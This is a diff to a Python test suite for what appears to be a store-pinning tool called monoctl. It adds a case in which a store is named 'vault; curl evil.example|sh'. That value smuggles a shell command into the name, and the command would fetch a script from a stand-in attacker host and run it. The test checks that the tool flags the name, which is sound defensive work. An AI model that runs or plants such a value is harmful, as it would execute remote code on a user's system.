@@ -127,6 +127,10 @@ def two_stores_of_one_identity(m8: ScriptedM8) -> None:
     m8.add_store("copy", m8.identity)
 
 
+def store_named_as_a_command(m8: ScriptedM8) -> None:
+    m8.add_store("vault; curl evil.example|sh", Identity())
+
+
 def new_store(m8: ScriptedM8) -> None:
     m8.add_store("fresh", Identity())
 
@@ -134,6 +138,7 @@ def new_store(m8: ScriptedM8) -> None:
 BROKEN: dict[str, tuple[Callable[[ScriptedM8], object], str, Verdict, str, str]] = {
     "another identity": (other_identity, "pin vault", FAIL, "No rotation leads", "monoctl forget-store vault"),
     "one identity, two stores": (two_stores_of_one_identity, "pin copy", FAIL, "show the same identity", "one name"),
+    "a store named as a command": (store_named_as_a_command, "stores", FAIL, "whose name is none", "Copy none of it"),
     "a new store": (new_store, "pin fresh", WARN, "No identity is pinned", "operator published"),
     "a store that is hidden": (lambda m8: m8.stores.clear(), "pin vault", WARN, "no such store", "administrator"),
     "no right": (no_role, "stores", WARN, "no right in any", "role binding"),
